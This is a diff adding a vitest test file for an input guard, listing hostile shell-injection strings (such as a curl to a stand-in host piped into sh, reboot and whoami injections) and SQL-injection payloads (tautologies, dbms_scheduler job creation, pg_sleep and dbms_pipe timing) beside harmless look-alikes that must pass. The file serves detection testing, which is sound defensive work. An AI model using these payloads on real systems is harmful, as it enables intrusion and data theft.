@@ -1,0 +1,78 @@
+// What reads as a command or a condition and is a list, a sum or an argument's name; beside each what a shell or a database
+// would run that looks alike. At sensitivity 1, in a query, a leaf of JSON and a form.
+
+import { describe, expect, test } from 'vitest'
+
+import { refusing } from '../corpora/guard.ts'
+
+const isRefused = refusing()
+
+const PLACES = ['query', 'json', 'form']
+
+interface Decision {
+  readonly hostile: readonly string[]
+  readonly honest: readonly string[]
+}
+
+const DECISIONS: Readonly<Record<string, Decision>> = {
+  'endings of files between pipes (CWE-78)': {
+    hostile: [
+      'x|id|sh|a',
+      'a|echo|sh|x',
+      'a|rev|sh|c',
+      'png||sh|x',
+      'x|png\nid|sh|x',
+      'x|png|sh|id',
+      'x;reboot|png|sh|x',
+      'a|txt|bash|curl e.example',
+      'x|js|sh|y',
+      'x;curl e.example|sh|x',
+    ],
+    honest: [
+      String.raw`\.(js|css|png|psd|sh|sql)$`,
+      '(js|css|png|psd|sh|sql)',
+      'arc|sit|tar|tbz|tgz|gz|gzip|jar',
+      'csv|deb|dmg|doc|\nexe|flv|gif|gz|gzip|hqx|jar',
+      'only (html|css|bash|sql) is shown',
+    ],
+  },
+  'a sum behind a pipe, where something is set (CWE-78)': {
+    hostile: ['set whoami; $1', 'set id|$1', 'set x; set -- id; $@', 'set a id;$1$2'],
+    honest: [
+      'Amounts are set below.\n\n| Team | $1,850 |\n| Guest | $1.50 |\n',
+      'we set Company-wide | $1,000 and Team | $1,850',
+    ],
+  },
+  'the name of an argument, which compares nothing (CWE-89)': {
+    hostile: [
+      "x' or 'a'='a",
+      '1 or 1>=1',
+      "x' <=> 'x",
+      "1 and 1=dbms_pipe.receive_message(pipename=>'a',timeout=>10)",
+      "x';begin dbms_scheduler.create_job(job_name=>'a',job_type=>'EXECUTABLE');end;--",
+      "' or pg_sleep(secs => 5)--",
+      '1 union select * from table(generator(rowcount=>10))--',
+    ],
+    honest: [
+      "or array('mymetric' => 'mymetric')<a",
+      "eg array('13' => 'nb_pageviews') or array('mymetric' => 'mymetric')",
+      "and Report(name => 'x')",
+      "{ 'a' => 1, 'or' => 'b' }",
+    ],
+  },
+}
+
+const judgedElse = (texts: readonly string[], refused: boolean): readonly string[] =>
+  texts.flatMap((text) =>
+    PLACES.filter((place) => isRefused(place, text) !== refused).map((place) => `${place} ${text}`),
+  )
+
+describe.each(Object.entries(DECISIONS))('%s', (_, { hostile, honest }) => {
+  test('what would run is refused', () => {
+    expect(judgedElse(hostile, true)).toEqual([])
+  })
+
+  test('what a list, a table or a program says passes', () => {
+    expect(judgedElse(honest, false)).toEqual([])
+  })
+})
